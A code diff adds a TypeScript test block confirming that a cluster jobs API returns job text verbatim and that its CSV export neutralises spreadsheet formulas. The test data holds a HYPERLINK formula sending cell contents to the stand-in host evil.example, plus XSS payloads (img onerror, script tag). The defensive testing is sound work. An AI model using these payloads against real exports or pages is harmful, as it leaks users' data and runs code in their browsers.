@@ -71,6 +71,30 @@ describe('GET /api/v1/clusters/{c}/jobs', () => {
   });
 });
 
+describe('text from the cluster is data', () => {
+  const description = `=HYPERLINK("http://evil.example/?"&A1,"open") <img src=x onerror=alert(1)>`;
+  const error = '@SUM(1+1) <script>alert(1)</script>';
+  let jobId: string;
+  beforeAll(async () => {
+    // The demo's control API adds a failed job carrying this text (lib/demo/control-api.ts).
+    const res = await fetch(`${demo.controlUrl}/jobs`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ job_type: 'IMPORT', description, error, days_ago: 3 }) });
+    expect(res.status).toBe(200);
+    jobId = ((await res.json()) as { job_id: string }).job_id;
+  });
+
+  it('the JSON API returns it verbatim', async () => {
+    const body = (await (await job(jobId)).json()) as { job: { description: string; error: string } };
+    expect(body.job).toMatchObject({ description, error });
+  });
+
+  it('the CSV export neutralises the cells a spreadsheet would run as formulas', async () => {
+    const csv = await (await list('?type=IMPORT&status=failed&from=now-14d&format=csv')).text();
+    const line = csv.split('\r\n').find((l) => l.startsWith(`${jobId},`));
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"") <img src=x onerror=alert(1)>"`);
+    expect(line).toContain(`"'@SUM(1+1) <script>alert(1)</script>"`);
+  });
+});
+
 describe('GET /api/v1/clusters/{c}/jobs/{id}', () => {
   it('answers the job, every column of this version', async () => {
     const { rows } = await query<{ job_id: string }>(demo.sqlUrl, `SELECT job_id FROM crdb_internal.jobs WHERE status = 'failed' LIMIT 1`);
